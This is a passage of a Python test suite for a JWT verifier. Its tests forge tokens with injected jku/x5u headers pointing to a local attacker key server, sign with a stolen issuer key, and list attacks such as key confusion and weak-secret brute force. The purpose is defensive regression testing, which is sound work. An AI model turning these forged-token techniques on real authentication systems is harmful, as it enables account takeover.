        self.thread.join()
        self.server.server_close()


@pytest.fixture
def endpoints() -> Iterator[tuple[Endpoint, Endpoint]]:
    """The issuer's and the attacker's, each with the keys of its own."""
    issuer, attacker = Endpoint(), Endpoint()
    issuer.serve(ISSUERS_JWK)
    attacker.serve(jwk_of(attackers(), kid="issuer-1"), jwk_of(attackers(), kid="attacker"))
    yield issuer, attacker
    issuer.stop()
    attacker.stop()


def test_no_address_in_a_token_is_ever_fetched(endpoints: tuple[Endpoint, Endpoint]) -> None:
    """The attacker's server waits in vain: keys come from the address that was configured, and from no other."""
    issuer, attacker = endpoints
    keys = RemoteKeySet(issuer.url, clock=SteerableClock())
    strict = Verifier(issuer=ISSUER, audience=AUDIENCE, keys=keys, clock=SteerableClock())
    for member in ("jku", "x5u"):
        assert refusal(strict, with_header(**{member: attacker.url})) == "signature.mismatch"
        assert refusal(strict, with_header(**{member: attacker.url}, kid="attacker")) == "key.unknown_kid"
        assert refusal(strict, with_header(**{member: attacker.url}, kid=attacker.url)) == "key.unknown_kid"
        assert refusal(strict, sealed({**RS, "kid": "attacker"}, {**ADMIN, "iss": attacker.url}, by_attacker)) == (
            "key.unknown_kid"
        )
    assert refusal(strict, genuine()) == ""
    assert attacker.requests == 0 and issuer.requests == 1


def thief(signing_input: bytes) -> bytes:
    """Signs with the issuer's own key, stolen."""
    return rs256(signing_input, pooled(0))


def test_a_stolen_key_is_refused_once_its_revocation_was_fetched(endpoints: tuple[Endpoint, Endpoint]) -> None:
    """At the latest when the cache has lived its 600 seconds; until then nobody has told the API."""
    issuer, _ = endpoints
    clock = SteerableClock()
    keys = RemoteKeySet(issuer.url, clock=clock)
    strict = Verifier(issuer=ISSUER, audience=AUDIENCE, keys=keys, clock=clock)
    stolen = sealed(RS, ADMIN, thief)
    assert refusal(strict, stolen) == ""
    issuer.serve(jwk_of(pooled(1), kid="issuer-2"))
    clock.advance(seconds=599)
    assert refusal(strict, stolen) == ""
    clock.advance(seconds=1)
    assert refusal(strict, stolen) == "key.unknown_kid"


def test_a_token_under_the_new_key_ends_the_stolen_one_sooner(endpoints: tuple[Endpoint, Endpoint]) -> None:
    """An unknown kid makes the API look, 30 seconds after it last did; then the old key is gone."""
    issuer, _ = endpoints
    clock = SteerableClock()
    keys = RemoteKeySet(issuer.url, clock=clock)
    strict = Verifier(issuer=ISSUER, audience=AUDIENCE, keys=keys, clock=clock)
    stolen = sealed(RS, ADMIN, thief)
    assert refusal(strict, stolen) == ""
    issuer.serve(jwk_of(pooled(1), kid="issuer-2"))
    clock.advance(seconds=30)
    assert refusal(strict, sealed({**RS, "kid": "issuer-2"}, PAYLOAD, partial(rs256, key=pooled(1)))) == ""
    assert refusal(strict, stolen) == "key.unknown_kid"


def test_a_revoked_key_does_not_come_back_while_the_issuer_is_down(endpoints: tuple[Endpoint, Endpoint]) -> None:
    """What a fetch has shown gone stays gone: without an answer the token is undecided, and never accepted."""
    issuer, _ = endpoints
    clock = SteerableClock()
    keys = RemoteKeySet(issuer.url, clock=clock)
    strict = Verifier(issuer=ISSUER, audience=AUDIENCE, keys=keys, clock=clock)
    stolen = sealed(RS, {**ADMIN, "exp": NOW + 10**7}, thief)
    assert refusal(strict, stolen) == ""
    issuer.serve(jwk_of(pooled(1), kid="issuer-2"))
    clock.advance(seconds=600)
    assert refusal(strict, stolen) == "key.unknown_kid"
    issuer.status = 503
    for _ in range(5):
        clock.advance(hours=6)
        assert refusal(strict, stolen) == "jwks_unavailable"


TOLD = {
    "weak HMAC secret, brute-forced": test_a_guessable_secret_is_found_offline_and_never_becomes_a_key_set,
    "blank HMAC secret": test_a_blank_secret_never_becomes_a_key_set,
    "RS256→HS256 key confusion": test_a_public_key_never_becomes_a_secret,
    "key confusion with no exposed key": test_a_public_key_is_recovered_from_two_tokens_and_helps_nobody,
    "jku / x5u header injection": test_no_address_in_a_token_is_ever_fetched,
    "claim processed before the signature check": test_no_claim_is_judged_before_the_signature,
    "non-canonical base64url, padded segments": test_a_token_has_one_spelling_so_that_a_deny_list_holds,
    "stale JWKS cache after a revocation": test_a_stolen_key_is_refused_once_its_revocation_was_fetched,
    "one HS256 secret shared by two APIs": test_two_apis_with_one_secret_can_forge_for_each_other,
}
"""Attacks with a test of their own, beside the table or instead of it."""


def test_every_attack_of_the_catalogue_is_here_or_is_no_verifiers() -> None:
    """And nothing goes by a name that the catalogue does not have."""
    assert {*ATTACKS, *TOLD, *NOT_A_VERIFIERS} == set(CATALOGUE)
    assert not {*NOT_A_VERIFIERS} & {*ATTACKS, *TOLD}
